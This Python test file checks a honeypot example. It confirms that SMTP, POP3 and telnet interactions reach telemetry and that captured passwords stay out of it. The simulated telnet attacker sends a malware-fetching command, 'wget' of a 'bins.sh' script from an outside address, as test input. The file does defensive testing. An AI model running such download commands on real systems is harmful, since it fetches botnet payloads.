"""The honeypot of the docs, run as its page says: seed-like interaction records arrive, passwords do not."""

from __future__ import annotations

import base64
import json
import poplib
import smtplib
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.canary import found_in
from tests.otlp_receiver import Log, Receiver
from tests.programs import PATIENCE, Program

EXAMPLE = Path(__file__).parent.parent / "docs" / "examples" / "honeypot.py"
FREE_PORTS = 'import sys\nsys.argv += ["--smtp", "0", "--pop3", "0", "--telnet", "0"]\n'
SWITCHES = {"SESSIONSPAN_INTERACTIONS": "on", "SESSIONSPAN_CAPTURE": "content"}
SECRET = "CanaryPassw0rd-7f3a"


@pytest.fixture
def receiver() -> Iterator[Receiver]:
    with Receiver() as running:
        yield running


@pytest.fixture
def honeypot(receiver: Receiver, tmp_path: Path) -> Iterator[Program]:
    # Its own first statement stays the first.
    head, future, rest = EXAMPLE.read_text().partition("from __future__ import annotations\n")
    with Program(tmp_path, head + future + FREE_PORTS + rest, receiver.environment() | SWITCHES) as program:
        yield program


def told(log: Log) -> tuple[Any, Any]:
    return log.attributes.get("sessionspan.input.text"), log.attributes.get("sessionspan.output.text")


def everything(receiver: Receiver) -> bytes:
    return repr((receiver.spans, receiver.logs)).encode()


def attempts(directory: Path) -> list[dict[str, str]]:
    return [json.loads(line) for line in (directory / "attempts.jsonl").read_text().splitlines()]


def test_the_record_of_an_interaction_has_who_when_what_the_answer_and_how_long(
    honeypot: Program, receiver: Receiver
) -> None:
    port = int(honeypot.wait_for("smtp"))
    with socket.create_connection(("127.0.0.1", port), PATIENCE) as client:
        answers = client.makefile("rb")
        answers.readline()
        client.sendall(b"HELO attacker.example\r\n")
        assert answers.readline() == b"250 2.0.0 ok\r\n"
        client.sendall(b"QUIT\r\n")
        answers.read()
        address, client_port = client.getsockname()
    receiver.wait_until(lambda: receiver.named("session.end"), "the end")
    record = receiver.named("interaction")[0]
    # Connection: 192.168.1.100:54321 -> 0.0.0.0:25
    assert (record.attributes["client.address"], record.attributes["client.port"]) == (address, client_port)
    (span,) = receiver.wait_for_sessions()
    assert (span.attributes["network.local.address"], span.attributes["network.local.port"]) == ("127.0.0.1", port)
    # Timestamp, Input, Response, Duration
    assert told(record) == ("HELO attacker.example", "250 2.0.0 ok")
    assert 0 < record.attributes["sessionspan.interaction.duration"] < PATIENCE
    (start, end) = receiver.named("session.start")[0], receiver.named("session.end")[0]
    assert start.time < record.time < end.time
    assert record.trace_id == span.trace_id
    # The other tier: the application's own log, in the same trace.
    (line,) = [log for log in receiver.logs if not log.event]
    assert line.body == f"an actor has connected to port {port}"
    assert line.trace_id == span.trace_id
    assert line.attributes["client_ip"] == address


def test_a_shell_is_told_line_by_line_and_its_password_only_in_the_file(
    honeypot: Program, receiver: Receiver, tmp_path: Path
) -> None:
    with socket.create_connection(("127.0.0.1", int(honeypot.wait_for("telnet"))), PATIENCE) as client:
        for prompt, line in (
            (b"login: ", b"root"),
            (b"Password: ", SECRET.encode()),
            (b"# ", b"uname -a"),
            (b"# ", b"wget http://198.51.100.7/bins.sh"),
            (b"# ", b"exit"),
        ):
            shown = b""
            while not shown.endswith(prompt):
                shown += client.recv(4096)
            client.sendall(line + b"\r\n")
        client.recv(1)
    receiver.wait_until(lambda: receiver.named("session.end"), "the end")
    (span,) = receiver.wait_for_sessions()
    assert [told(log) for log in receiver.named("interaction")] == [
        ("root\\r\\n", "Password: "),
        (None, None),
        ("uname -a\\r\\n", "Linux srv01 5.10.0-8-amd64 x86_64 GNU/Linux\\r\\n# "),
        ("wget http://198.51.100.7/bins.sh\\r\\n", "-sh: wget http://198.51.100.7/bins.sh: not found\\r\\n# "),
        ("exit\\r\\n", None),
    ]
    assert span.name == "TELNET session"
    assert span.attributes["username"] == "root"
    (attempt,) = attempts(tmp_path)
    assert attempt == {"session_id": span.attributes["session_id"], "user": "root", "password": SECRET}
    assert found_in(everything(receiver), [SECRET.encode()]) == []
    assert (tmp_path / "attempts.jsonl").stat().st_mode & 0o077 == 0


def test_the_logins_of_real_clients_are_told_without_their_passwords(
    honeypot: Program, receiver: Receiver, tmp_path: Path
) -> None:
    with smtplib.SMTP("127.0.0.1", int(honeypot.wait_for("smtp")), timeout=PATIENCE) as smtp:
        smtp.login("bob", SECRET)
        smtp.sendmail("a@x.example", ["b@y.example"], f"Subject: spam\r\n\r\n{SECRET}\r\n")
    pop3 = poplib.POP3("127.0.0.1", int(honeypot.wait_for("pop3")), timeout=PATIENCE)
    pop3.user("alice")
    with pytest.raises(poplib.error_proto):
        pop3.pass_(SECRET)
    pop3.quit()
    receiver.wait_until(lambda: len(receiver.named("session.end")) == 2, "two ends")
    receiver.wait_for_sessions(2)
    inputs = [told(log) for log in receiver.named("interaction")]
    assert ("AUTH", "235") in inputs
    assert ("USER alice", "OK") in inputs
    assert ("PASS", "ERR") in inputs
    assert {(found["user"], found["password"]) for found in attempts(tmp_path)} == {
        ("bob", SECRET),
        ("alice", SECRET),
    }
    assert found_in(everything(receiver), [SECRET.encode(), base64.b64encode(SECRET.encode())]) == []
